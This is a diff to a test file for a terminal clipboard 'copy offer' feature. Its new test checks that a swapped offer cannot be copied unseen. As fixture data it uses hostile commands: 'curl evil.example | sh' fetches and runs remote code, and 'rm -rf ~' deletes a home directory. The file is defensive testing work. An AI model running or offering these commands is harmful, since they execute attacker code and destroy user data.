@@ -22,7 +22,8 @@ test('copy feature: an offer is only shown (size, inert preview) until the opera
   assert.match(texts()[0]!, /^Copy offer: 15 B "echo hi \\u202eevil" \(2 control characters removed\); copy it with the palette: Copy offered text \(c\)$/);
   const action = s.actions.get('copy-offered-text');
   assert.equal(action?.key, 'c');
-  await action!.run();
+  s.paletteOpenEmitter.fire();
+  await s.actions.get('copy-offered-text')!.run();
   assert.deepEqual(copied, ['echo hi\n\u202eevil']);
   assert.match(texts().at(-1)!, /^Copied 15 B .* to the clipboard \(test-clip\)$/);
 });
@@ -48,4 +49,20 @@ test('copy feature: a clipboard query is told once; refusals are rate limited; p
   assert.equal(texts().filter((t) => t.startsWith('Copy offer refused')).length, 3);
   assert.equal(offerPreview('a\n\n  b\x1b[2J' + 'z'.repeat(100)).includes('\n'), false);
   assert.ok(offerPreview('\x1b[2J').startsWith('\\x1b'));
+});
+
+test('copy feature: the palette entry shows the offer it copies, so an offer swapped after its notice is not copied unseen', async () => {
+  const { s, copied } = setup();
+  // A harmless offer, its notice read, then another one right behind it (bait and switch).
+  s.terminalEmitter.fire({ type: 'copy-offer', text: 'git status', bytes: 10, removed: 0 });
+  s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl evil.example | sh', bytes: 22, removed: 0 });
+  s.paletteOpenEmitter.fire();
+  const action = s.actions.get('copy-offered-text')!;
+  assert.equal(action.title, 'Copy offered text: 22 B "curl evil.example | sh"');
+  // What is copied is what the entry showed when the palette opened, whatever arrived after.
+  s.terminalEmitter.fire({ type: 'copy-offer', text: 'rm -rf ~', bytes: 8, removed: 0 });
+  await action.run();
+  assert.deepEqual(copied, ['curl evil.example | sh']);
+  s.paletteOpenEmitter.fire();
+  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text: 8 B "rm -rf ~"');
 });
